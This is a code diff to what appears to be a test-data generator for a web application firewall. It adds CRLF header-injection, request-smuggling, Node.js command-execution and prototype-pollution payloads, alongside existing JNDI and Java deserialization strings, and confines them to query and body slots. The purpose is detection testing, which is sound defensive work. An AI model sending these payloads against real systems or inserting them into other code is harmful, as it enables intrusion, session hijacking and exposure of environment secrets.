@@ -112,6 +112,23 @@ _ATTACKS: List[Tuple[str, List[str]]] = [
         "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ",
         "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
     ]),
+    # args/body placements only (see _attack): the 921/934 rules target
+    # ARGS|REQUEST_BODY — a smuggling line in the PATH or a CRLF blob in
+    # a header would be a mislabeled example nothing is meant to catch
+    ("protocol", [
+        "%0d%0aSet-Cookie: sess=evil",
+        "%0D%0ALocation: https://evil.example/",
+        "GET /internal/admin HTTP/1.1",
+        "0%0d%0a%0d%0aGET /admin HTTP/1.1",
+        "%0d%0aContent-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK",
+    ]),
+    ("nodejs", [
+        "require('child_process').exec('id')",
+        "process.mainModule.constructor._load('child_process')",
+        "__proto__[isAdmin]=true",
+        "constructor.prototype.polluted=1",
+        "new Function('return process.env')()",
+    ]),
 ]
 
 
@@ -155,6 +172,10 @@ def _attack(rng: random.Random, i: int) -> LabeledRequest:
         # a bare URL in a header is not an RFI vector (nothing include()s a
         # header); keep RFI payloads in parameters/body/path where they attack
         slot = rng.random() * 0.9
+    elif cls in ("protocol", "nodejs"):
+        # these families' rules target ARGS|REQUEST_BODY (see the
+        # _ATTACKS comment): keep their payloads in query/body slots
+        slot = rng.random() * 0.8
     headers = {"host": "shop.example.com",
                "user-agent": rng.choice(_BENIGN_AGENTS)}
     method, uri, body = "GET", "/", b""
